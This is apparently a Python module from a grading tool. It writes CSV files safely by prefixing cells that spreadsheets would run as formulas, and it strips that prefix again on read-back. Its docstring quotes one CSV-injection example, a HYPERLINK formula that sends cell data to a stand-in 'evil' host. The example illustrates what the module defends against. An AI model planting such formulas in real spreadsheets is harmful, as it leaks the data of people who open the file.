"""Writes every CSV file the grader produces, with no cell a spreadsheet would run.

Student ids, exception messages, answers and comments end up in CSV files that TAs open
in Excel, LibreOffice or Google Sheets, which run a cell starting with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) as a formula:
``=HYPERLINK("http://evil/?"&A2, "click")`` sends the sheet away. Following OWASP's rule,
:func:`write_csv` prefixes such text cells with ``'`` (shown as text, never run); plain
numbers, negative ones included, stay numbers. Rows end in CRLF (RFC 4180), so a carriage
return inside a cell is quoted rather than starting a new row of its own (pandas quotes
only line feeds otherwise). :func:`restore_cell` undoes the prefix when we read our own
files back (the grading sheet comes back through ``manual import``).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutral_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: text a spreadsheet would run gets a ``'``."""
    if not isinstance(value, str):
        return value
    start = value.lstrip(" ")
    if start.startswith(FORMULA_START) and not _NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value


def restore_cell(value: Any) -> Any:
    """The text ``neutral_cell`` was given, for a cell read back from our own CSV."""
    if isinstance(value, str) and value.startswith("'") and neutral_cell(value[1:]) != value[1:]:
        return value[1:]
    return value


def write_csv(
    table: Any,
    path: Path,
    *,
    columns: Sequence[str] | None = None,
    index: bool = False,
) -> Path:
    """Write ``table`` (a pandas DataFrame, or rows as dicts with ``columns``) to ``path``,
    every text cell, header and index label made inert."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if hasattr(table, "to_csv"):
        frame = table.reset_index() if index else table.copy()
        for position in range(frame.shape[1]):
            column = frame.iloc[:, position]
            if column.dtype.kind == "O":  # object and pandas' str dtypes
                frame.isetitem(position, column.astype(object).map(neutral_cell))
        frame.columns = [neutral_cell(str(c)) for c in frame.columns]
        frame.to_csv(path, index=False, lineterminator="\r\n", errors="replace")
        return path
    if columns is None:
        raise ValueError("write_csv: rows need their columns")
    with open(path, "w", newline="", encoding="utf-8", errors="replace") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow([neutral_cell(c) for c in columns])
        for row in table:
            row = row if isinstance(row, Mapping) else dict(zip(columns, row, strict=True))
            writer.writerow([neutral_cell(row.get(c, "")) for c in columns])
    return path
